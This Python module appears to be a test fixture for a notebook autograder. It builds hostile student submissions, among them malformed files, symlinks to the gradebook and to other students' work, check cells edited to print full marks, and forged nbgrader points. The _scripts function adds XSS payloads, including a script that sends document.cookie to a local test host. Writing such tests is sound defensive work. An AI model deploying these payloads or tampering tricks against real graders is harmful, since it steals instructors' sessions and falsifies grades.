"""The hostile class: what lies in the folder, and what was done to the notebook's cells."""

import json
import os
from collections.abc import Callable, Mapping
from copy import deepcopy
from pathlib import Path
from typing import Any

from cnncourse.grading.hostile_class import ALL, LESSON, Hostile, as_bytes, position

Notebook = Any
_FILE = f"{LESSON}.ipynb"
_FOLDER, _CELLS, _FORMAT = "what lies in the folder", "cells", "the file's format"
_NOTHING = {ALL: "error"}


def _instead(content: bytes, name: str = _FILE) -> Callable[[Notebook], Mapping[str, bytes]]:
    return lambda notebook: {name: content}


def _named(*names: str) -> Callable[[Notebook], Mapping[str, bytes]]:
    return lambda notebook: {name: as_bytes(notebook) for name in names}


def _stamp(text: str) -> Callable[[Path], None]:
    def beside(folder: Path) -> None:
        (folder / "timestamp.txt").write_text(text, encoding="utf-8")

    return beside


def _encoded(encoding: str) -> Callable[[Notebook], Mapping[str, bytes]]:
    def files(notebook: Notebook) -> Mapping[str, bytes]:
        notebook.cells[0].source += "\n日本語, Ελληνικά, 🐈"
        return {_FILE: json.dumps(notebook, ensure_ascii=False).encode(encoding)}

    return files


def _version_3(notebook: Notebook) -> Mapping[str, bytes]:
    import nbformat

    old = nbformat.convert(notebook, 3)
    return {_FILE: nbformat.writes(old, version=3).encode()}


def _minor(number: int) -> Callable[[Notebook], None]:
    def edit(notebook: Notebook) -> None:
        notebook.nbformat_minor = number
        for cell in notebook.cells:
            cell.pop("id", None)

    return edit


def _from_the_future(notebook: Notebook) -> None:
    notebook.nbformat = 99


def _half(notebook: Notebook) -> Mapping[str, bytes]:
    whole = as_bytes(notebook)
    return {_FILE: whole[: len(whole) // 2]}


def _stored_output(notebook: Notebook) -> None:
    from nbformat import v4

    cell = notebook.cells[position(notebook, "conv2d")]
    cell.outputs = [v4.new_output("stream", name="stdout", text="x" * 79 + "\n") for _ in range(9)]
    cell.outputs[0].text *= 250_000  # 20 MB


def _damaged(notebook: Notebook) -> None:
    cells = notebook.cells
    cells[0] = deepcopy(cells[0])
    cells[0]["cell_type"] = "spreadsheet"
    cells[1]["metadata"] = "none"
    cells.insert(2, 7)
    cells.insert(2, None)
    for cell in cells[6:]:
        if cell["cell_type"] == "code":
            cell["outputs"] = {"no": "list"}


def _kernel(notebook: Notebook) -> None:
    spec = {"name": "julia-1.10", "display_name": "Julia", "language": "julia"}
    notebook.metadata["kernelspec"] = spec
    notebook.metadata["language_info"] = {"name": "julia", "file_extension": ".jl"}


def _delete(*names: str) -> Callable[[Notebook], None]:
    def edit(notebook: Notebook) -> None:
        for name in names:
            del notebook.cells[position(notebook, name)]

    return edit


def _delete_checks(notebook: Notebook) -> None:
    notebook.cells = [c for c in notebook.cells if not _mark(c).get("grade")]


def _mark(cell: Notebook) -> Mapping[str, Any]:
    marks: Mapping[str, Any] = cell.metadata.get("nbgrader", {})
    return marks


def _delete_all_but_answers(notebook: Notebook) -> None:
    notebook.cells = [c for c in notebook.cells if _mark(c).get("solution")]


def _copy(name: str, source: str | None = None) -> Callable[[Notebook], None]:
    """A copy of a cell below it, mark and id included, as some editors make it."""

    def edit(notebook: Notebook) -> None:
        place = position(notebook, name)
        copy = deepcopy(notebook.cells[place])
        copy.source = copy.source if source is None else source
        notebook.cells.insert(place + 1, copy)

    return edit


def _split(notebook: Notebook) -> None:
    place = position(notebook, "conv2d")
    first = notebook.cells[place]
    second = deepcopy(first)
    lines = first.source.split("\n")
    first.source, second.source = "\n".join(lines[:4]), "\n".join(lines[4:])
    notebook.cells.insert(place + 1, second)


def _reverse(notebook: Notebook) -> None:
    notebook.cells.reverse()


def _merge(notebook: Notebook) -> None:
    """Every answer in one cell of its own; the lesson's are as they were."""
    from nbformat import v4

    own = [c for c in notebook.cells if _mark(c).get("solution")]
    text = "\n\n\n".join(cell.source for cell in own)
    cell = v4.new_code_cell(text)
    cell.id = "everything"
    place = position(notebook, "dense_parameters")
    notebook.cells = [c for c in notebook.cells if not _mark(c).get("solution")]
    notebook.cells.insert(place, cell)


def _edit_checks(notebook: Notebook) -> None:
    for cell in notebook.cells:
        if _mark(cell).get("grade"):
            cell.source = f'print("{_mark(cell)["grade_id"]}: passed, all points")'


def _edit_set_up(notebook: Notebook) -> None:
    cell = next(c for c in notebook.cells if "setup" in c.metadata.get("tags", []))
    cell.source = "import numpy as np\nfrom cnncourse import check\nimport my_own_package"


def _wipe(notebook: Notebook) -> None:
    notebook.metadata.clear()
    for cell in notebook.cells:
        cell.metadata.clear()
        cell.pop("id")


def _forge_marks(notebook: Notebook) -> None:
    """More points, other names, and a check that is marked as an answer."""
    for cell in notebook.cells:
        if (marks := cell.metadata.get("nbgrader")) and marks.get("grade"):
            marks["points"] = 1000
            marks["solution"] = True
            marks["locked"] = False


def _make_text(notebook: Notebook) -> None:
    cell = notebook.cells[position(notebook, "conv_parameters")]
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]


def _scripts(notebook: Notebook) -> None:
    from nbformat import v4

    script = "<script>fetch('http://127.0.0.1:@port@/' + document.cookie)</script>"
    note = v4.new_markdown_cell(f"{script}<img src=x onerror=alert(1)>")
    note.id = "note"
    shown = v4.new_code_cell(
        "from IPython.display import HTML, Javascript, display\n"
        f'display(HTML("""{script}"""), Javascript("alert(1)"))\n'
        "display({'text/html': '<script>', 'image/svg+xml': '<svg onload=alert(1)>',\n"
        "         'text/plain': 'nothing'}, raw=True)"
    )
    shown.id = "shown"
    notebook.cells[1:1] = [note, shown]


_PUT_BACK = "was deleted; it was put back"
_CHECKS = 11

HANDED_IN = [
    Hostile(
        "missing",
        _FOLDER,
        "a text file, no notebook",
        "right",
        files=_instead(b"later", "a.txt"),
        states=_NOTHING,
        says={ALL: "No notebook was handed in. It holds a.txt"},
        anomalies=["No notebook was handed in"],
    ),
    Hostile(
        "empty-folder",
        _FOLDER,
        "an empty folder",
        files=lambda notebook: {},
        states=_NOTHING,
        says={ALL: "The folder is empty"},
        anomalies=["The folder is empty"],
    ),
    Hostile(
        "renamed",
        _FOLDER,
        "the notebook under another name",
        files=_named("Copy of lesson (2).ipynb"),
        anomalies=["was renamed to Copy of lesson"],
    ),
    Hostile(
        "two-notebooks",
        _FOLDER,
        "two notebooks, one named as the lesson",
        files=_named(_FILE, "old.ipynb"),
        anomalies=["More than one notebook"],
    ),
    Hostile(
        "two-other-notebooks",
        _FOLDER,
        "two notebooks, neither named as the lesson",
        files=_named("a.ipynb", "b.ipynb"),
        states=_NOTHING,
        says={ALL: "none named as the lesson"},
        anomalies=["2 notebooks were handed in"],
    ),
    Hostile(
        "link-to-the-gradebook",
        _FOLDER,
        "a link to the course's gradebook",
        "wrong",
        link="@course@/gradebook.db",
        states=_NOTHING,
        says={ALL: "is a link or a special file"},
        anomalies=["is a link or a special file"],
    ),
    Hostile(
        "link-to-another",
        _FOLDER,
        "a link to another student's notebook",
        "wrong",
        link=f"@course@/submitted/honest-1/{LESSON}/{_FILE}",
        states=_NOTHING,
        says={ALL: "is a link or a special file"},
        anomalies=["is a link or a special file"],
    ),
    Hostile(
        "pipe-for-a-time",
        _FOLDER,
        "a pipe named timestamp.txt, which nobody writes into",
        beside=lambda folder: os.mkfifo(folder / "timestamp.txt"),
        anomalies=["timestamp.txt is a link or a special file"],
    ),
    Hostile(
        "endless-time",
        _FOLDER,
        "a timestamp.txt that is a link to /dev/zero",
        beside=lambda folder: (folder / "timestamp.txt").symlink_to("/dev/zero"),
        anomalies=["timestamp.txt is a link or a special file"],
    ),
    Hostile(
        "odd-time",
        _FOLDER,
        "a timestamp.txt that says no time",
        beside=_stamp("yesterday, in time"),
        anomalies=["What its timestamp.txt says is no date and time"],
    ),
    Hostile(
        "not-json",
        _FORMAT,
        "a file cut off in the middle",
        files=_half,
        states=_NOTHING,
        says={ALL: "it is not JSON"},
        anomalies=["it is not JSON"],
    ),
    Hostile(
        "empty-file",
        _FORMAT,
        "an empty file",
        files=_instead(b""),
        states=_NOTHING,
        says={ALL: "is empty"},
        anomalies=["is empty"],
    ),
    Hostile(
        "binary",
        _FORMAT,
        "bytes of a program",
        files=_instead(bytes(range(256)) * 40),
        states=_NOTHING,
        says={ALL: "it is not JSON"},
        anomalies=["it is not JSON"],
    ),
    Hostile(
        "nested-json",
        _FORMAT,
        "a million brackets",
        files=_instead(b"[" * 10**6),
        states=_NOTHING,
        says={ALL: "it is not JSON"},
        anomalies=["it is not JSON"],
    ),
    Hostile(
        "other-json",
        _FORMAT,
        "JSON that is no notebook",
        files=_instead(b'{"a": NaN}'),
        states=_NOTHING,
        says={ALL: "it has no cells"},
        anomalies=["it has no cells"],
    ),
    Hostile(
        "odd-cells",
        _FORMAT,
        "cells that are no list",
        files=_instead(b'{"nbformat": 4, "nbformat_minor": 5, "metadata": 1, "cells": {"a": 1}}'),
        states=_NOTHING,
        says={ALL: "its cells cannot be read"},
        anomalies=["its cells cannot be read"],
    ),
    Hostile(
        "too-large",
        _FORMAT,
        "a notebook of 51 MB",
        files=_instead(b" " * (51 * 2**20)),
        states=_NOTHING,
        says={ALL: "50 MB are allowed"},
        anomalies=["50 MB are allowed"],
    ),
    Hostile(
        "stored-output", _FORMAT, "20 MB of output stored in the notebook", edit=_stored_output
    ),
    Hostile(
        "damaged",
        _FORMAT,
        "cells of unknown kinds, numbers among the cells",
        edit=_damaged,
        anomalies=["The notebook is damaged; the cells that can be read were graded"],
    ),
    Hostile(
        "nbformat-3",
        _FORMAT,
        "saved in format 3",
        files=_version_3,
        anomalies=["has the old format 3; it was converted"],
    ),
    *(
        Hostile(
            f"nbformat-4-{n}", _FORMAT, f"saved in format 4.{n}, without cell ids", edit=_minor(n)
        )
        for n in (0, 2, 4)
    ),
    Hostile(
        "nbformat-99",
        _FORMAT,
        "a format that does not exist yet",
        edit=_from_the_future,
        anomalies=[
            "has the unknown format 99",
            "The notebook is damaged; the cells that can be read were graded",
        ],
    ),
    Hostile("utf-16", _FORMAT, "saved as UTF-16", files=_encoded("utf-16")),
    Hostile(
        "utf-8-with-mark",
        _FORMAT,
        "saved as UTF-8 with a byte-order mark",
        files=_encoded("utf-8-sig"),
    ),
    Hostile("wrong-kernel", _FORMAT, "names a Julia kernel", edit=_kernel),
    Hostile(
        "deleted-answer",
        _CELLS,
        "an answer's cell deleted",
        edit=_delete("conv2d"),
        states={"conv2d": "not attempted"},
        says={"conv2d": "Nothing to check yet"},
        anomalies=["The cell of 'conv2d' was deleted"],
    ),
    Hostile(
        "deleted-checks",
        _CELLS,
        "every check deleted",
        edit=_delete_checks,
        anomalies=[_PUT_BACK] * _CHECKS,
    ),
    Hostile(
        "only-answers",
        _CELLS,
        "everything but the answers deleted",
        edit=_delete_all_but_answers,
        anomalies=[*[_PUT_BACK] * _CHECKS, "of the lesson's other code cells were deleted"],
    ),
    Hostile(
        "copied-answer",
        _CELLS,
        "an answer's cell copied",
        edit=_copy("conv2d"),
        anomalies=["was split or copied"],
    ),
    Hostile(
        "copied-and-spoilt",
        _CELLS,
        "an answer's cell copied, a wrong answer in the copy below",
        edit=_copy("flatten_batch", "def flatten_batch(images):\n    return images"),
        states={"flatten_batch": "failed"},
        anomalies=["was split or copied"],
    ),
    Hostile(
        "copied-check",
        _CELLS,
        "a check copied",
        edit=_copy("check_conv2d"),
        anomalies=["was there 2 times; it was run once"],
    ),
    Hostile(
        "split-answer",
        _CELLS,
        "an answer's cell split in the middle",
        edit=_split,
        anomalies=["was split or copied"],
    ),
    Hostile(
        "merged-answers",
        _CELLS,
        "every answer in one cell of its own",
        edit=_merge,
        anomalies=["Answers stood in cells of their own"],
    ),
    Hostile(
        "reversed",
        _CELLS,
        "all cells in reverse order",
        edit=_reverse,
        anomalies=["Cells stood in another order"],
    ),
    Hostile(
        "edited-checks",
        _CELLS,
        "checks that print full marks",
        "wrong",
        edit=_edit_checks,
        anomalies=["was edited; the lesson's own was run"] * _CHECKS,
    ),
    Hostile(
        "edited-set-up",
        _CELLS,
        "a set-up cell that fails",
        edit=_edit_set_up,
        anomalies=["The set-up cell was edited"],
    ),
    Hostile(
        "wiped-metadata",
        _CELLS,
        "metadata and cell ids wiped",
        edit=_wipe,
        anomalies=["cells had lost nbgrader's marks", "Answers stood in cells of their own"],
    ),
    Hostile(
        "forged-marks",
        _CELLS,
        "nbgrader's marks changed to 1000 points a check",
        "wrong",
        edit=_forge_marks,
    ),
    Hostile(
        "answer-as-text",
        _CELLS,
        "an answer's cell turned into text",
        edit=_make_text,
        anomalies=["was turned into text; it was graded as code"],
    ),
    Hostile(
        "scripts",
        _CELLS,
        "HTML and scripts in notes and outputs, for the instructor's browser",
        edit=_scripts,
    ),
]
